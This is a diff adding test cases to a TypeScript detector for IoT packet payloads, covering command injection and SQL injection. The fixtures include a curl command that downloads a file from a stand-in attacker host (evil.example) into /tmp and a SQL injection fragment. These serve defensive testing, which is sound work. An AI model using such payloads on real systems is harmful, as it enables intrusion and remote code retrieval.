@@ -101,6 +101,30 @@ const detections: Array<[string, PacketEvent, string, string]> = [
     'path-traversal',
     'subscriptions[0].topic',
   ],
+  [
+    'a command line in a field named for one',
+    telemetry({ id: 'gw-1', run: 'uname -a' }),
+    'command-injection',
+    'payload.json:$.run',
+  ],
+  [
+    "SQL injection at the start of a text line's value",
+    packetEvent({
+      topic: 'devices/d1/status',
+      payload: Buffer.from("sort: basement' GROUP BY username-- -\nseq: 2824"),
+    }),
+    'sqli',
+    'payload.line:sort',
+  ],
+  [
+    'a command in a console-style SET line',
+    packetEvent({
+      topic: 'devices/d1/status',
+      payload: Buffer.from('SET shell curl -o /tmp/a http://evil.example/a'),
+    }),
+    'command-injection',
+    'payload.line:shell',
+  ],
 ];
 
 for (const [name, event, expectedClass, location] of detections) {
@@ -132,6 +156,8 @@ for (const text of [
   'range=20 or 30&unit=s&mode=auto',
   'GET /status?order=by date&group=by zone',
   'note=select the mode from the menu&lang=en',
+  'status: ok\nuptime: 3 days\nnext: reboot at 02:00',
+  'mode: auto\nrule: hour=22 and door=open',
 ]) {
   test(`patterns: no finding on a text payload ${JSON.stringify(text)}`, () => {
     assert.deepEqual(inspect(packetEvent({ topic: 'devices/d1/status', payload: Buffer.from(text) })), []);
